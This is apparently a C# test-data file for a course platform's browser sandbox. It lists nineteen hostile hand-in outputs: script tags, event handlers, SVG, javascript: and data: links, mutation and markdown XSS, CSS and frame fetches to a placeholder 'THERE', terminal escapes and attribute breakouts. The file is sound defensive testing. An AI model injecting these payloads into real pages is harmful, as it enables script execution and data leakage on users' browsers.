namespace MediaCourse.Tests.Browsers;

/// <summary>What a hostile hand-in may show: each tries to set <c>window.hacked</c> or the title, or to fetch from the address THERE.</summary>
internal static class HostileOutputs
{
    /// <summary>The attacks: a name, a media type, the content.</summary>
    public static TheoryData<string, string, string> All => new()
    {
        { "script", "text/html", "<b>x</b><script>top.hacked = 1; fetch('THERE')</script>" },
        { "script-source", "text/html", "<b>x</b><script src=THERE></script>" },
        { "handlers", "text/html", "<table onmouseover=\"top.hacked = 1\"><tr><td><img src=x onerror=\"top.hacked = 1\"><details open ontoggle=\"top.hacked = 1\">x</details></table><body onload=\"top.hacked = 1\">" },
        { "svg-onload", "text/html", "<b>x</b><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.hacked = 1\"><script>top.hacked = 1</script><image href=\"THERE\"/><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"THERE\"/></foreignObject><style>@import url(THERE);</style></svg>" },
        { "svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.hacked = 1\"><script href=\"THERE\">top.hacked = 1</script><image href=\"THERE\" width=\"9\" height=\"9\"/></svg>" },
        { "javascript-link", "text/html", "<b>x</b><a class=\"bait\" href=\"javascript:top.hacked=1\">go</a> <a class=\"bait\" target=_top href=\"THERE\">go</a>" },
        { "style-fetch", "text/html", "<style>@import 'THERE'; b { background: url(THERE) } i { background: u\\72l(THERE) } u { background: image-set('THERE' 1x) } @font-face { font-family: f; src: url(THERE) }</style><b style=\"background-image:url(THERE)\">x</b><i>y</i><u style=\"font-family:f;content:url(THERE)\">z</u>" },
        { "meta-refresh", "text/html", "<b>x</b><meta http-equiv=refresh content=\"0;url=THERE\"><base href=\"THERE\"><link rel=stylesheet href=\"THERE\"><link rel=prefetch href=\"THERE\">" },
        { "frames", "text/html", "<b>x</b><iframe src=\"THERE\"></iframe><iframe srcdoc=\"<script>top.hacked=1</script>\"></iframe><object data=\"THERE\"></object><embed src=\"THERE\"><frameset><frame src=\"THERE\"></frameset>" },
        { "forms", "text/html", "<b>x</b><form action=\"THERE\"><input name=a autofocus onfocus=\"top.hacked=1\"><button class=bait>send</button></form><button class=bait formaction=\"THERE\">send</button>" },
        { "data-html", "text/html", "<b>x</b><a class=bait href=\"data:text/html,<script>top.hacked=1</script>\">go</a><iframe src=\"data:text/html,<script>top.hacked=1</script>\"></iframe><img src=\"data:text/html,<script>top.hacked=1</script>\">" },
        { "media", "text/html", "<b>x</b><img src=\"THERE\" srcset=\"THERE 2x\"><picture><source srcset=\"THERE\"><img src=\"THERE\"></picture><video src=\"THERE\" poster=\"THERE\" autoplay></video><audio src=\"THERE\" autoplay></audio><table background=\"THERE\"><tr><td>y</table><input type=image src=\"THERE\">" },
        { "broken-out", "text/html", "\"></iframe><script>window.hacked = 1</script><iframe srcdoc=\"<b>x</b>&quot;&gt;&lt;script&gt;top.hacked=1&lt;/script&gt;" },
        { "mutation", "text/html", "<b>x</b><noscript><p title=\"</noscript><img src=x onerror=top.hacked=1>\"></noscript><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.hacked=1&gt;\"><svg></p><style><a id=\"</style><img src=x onerror=top.hacked=1>\"><template><script>top.hacked=1</script></template>" },
        { "markdown", "text/markdown", "[go](javascript:window.hacked=1) <script>window.hacked=1</script> <img src=x onerror=window.hacked=1> ![p](THERE) [x]: THERE <javascript:window.hacked=1> ![a](data:text/html,x) [d](data:text/html;base64,PHNjcmlwdD4=)" },
        { "text", "text/plain", "</pre><script>window.hacked=1</script>\u001b]8;;THERE\u0007link\u001b]8;;\u0007\u001b[2J\u001b]0;title\u0007\u009b31m</title><!--" },
        { "json", "application/json", "</pre><script>window.hacked=1</script>" },
        { "picture", "image/png", "x\" onerror=\"window.hacked=1\" src=\"THERE" },
        { "type", "text/html\"><script>window.hacked=1</script>", "x" },
    };
}
